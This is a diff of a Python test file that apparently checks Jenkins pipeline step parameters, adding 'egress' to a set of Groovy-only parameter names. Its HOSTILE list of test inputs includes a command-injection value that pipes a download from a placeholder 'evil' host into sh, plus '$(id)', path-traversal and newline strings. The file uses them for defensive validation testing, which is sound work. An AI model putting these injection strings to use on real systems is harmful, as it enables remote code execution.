@@ -26,7 +26,7 @@ ROOT = Path(__file__).resolve().parents[2]
 AGENTS = agent_names()
 GITOPS = "https://gitlab.demo.pathops.io/shop/shop-frontend-gitops.git"
 # Jenkins' own rules: they guard step parameters that no Python identifier rule covers.
-GROOVY_ONLY = {"env", "mrIid", "imageRepository", "gitUrl", "credentialsId", "path", "label"}
+GROOVY_ONLY = {"env", "mrIid", "imageRepository", "gitUrl", "credentialsId", "path", "label", "egress"}
 # The Groovy rules of one kind of artifact id: the Python rule, and the kind the step expects.
 ARTIFACT_PREFIX = {"snapshotId": "snap-", "patchId": "patch-", "reportId": "report-"}
 HOSTILE = ["", " ", "a b", "x'; curl evil | sh; '", "a\nb", "a\n", "\u00e9t\u00e9", "../x", "a/../b", "$(id)",
